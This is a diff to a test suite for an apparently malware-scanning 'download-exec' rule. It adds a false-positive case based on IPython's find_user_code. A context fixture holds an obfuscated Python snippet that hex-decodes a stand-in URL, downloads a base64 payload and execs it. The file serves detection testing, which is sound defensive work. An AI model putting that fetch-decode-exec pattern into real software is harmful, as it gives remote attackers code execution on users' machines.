@@ -75,6 +75,10 @@ describe('download-exec: fetched, decoded and executed through names', () => {
     const src = `import requests, base64\ndef db_indicator():\n    url = bytes.fromhex('68747470733a2f2f6170692e6578616d706c652e70726f2f736f636b6574').decode()\n    res = requests.get(url)\n    code = base64.b64decode(res.json().get('message', '')).decode()\n    exec(code)\n`;
     expect(maxSev(hits('download-exec', { 'pkg/core.py': src }))).toBe('high');
   });
+  it('does not flag a function that may fetch a URL and evals a name from a namespace (IPython find_user_code)', () => {
+    const src = `def find_user_code(self, target):\n    if target.startswith('http'):\n        from urllib.request import urlopen\n        return urlopen(target).read().decode('latin1')\n    codeobj = eval(target, self.user_ns)\n    return codeobj\n`;
+    expect(hits('download-exec', { 'pkg/core/shell.py': src })).toEqual([]);
+  });
   it('does not flag exec of a local version file in a module that also downloads', () => {
     const src = `import requests\ndef version():\n    latest = requests.get('https://pypi.org/pypi/pkg/json').json()['info']['version']\n    ns = {}\n    exec(open('pkg/_version.py').read(), ns)\n    return ns['__version__'], latest\n`;
     expect(hits('download-exec', { 'pkg/util.py': src })).toEqual([]);
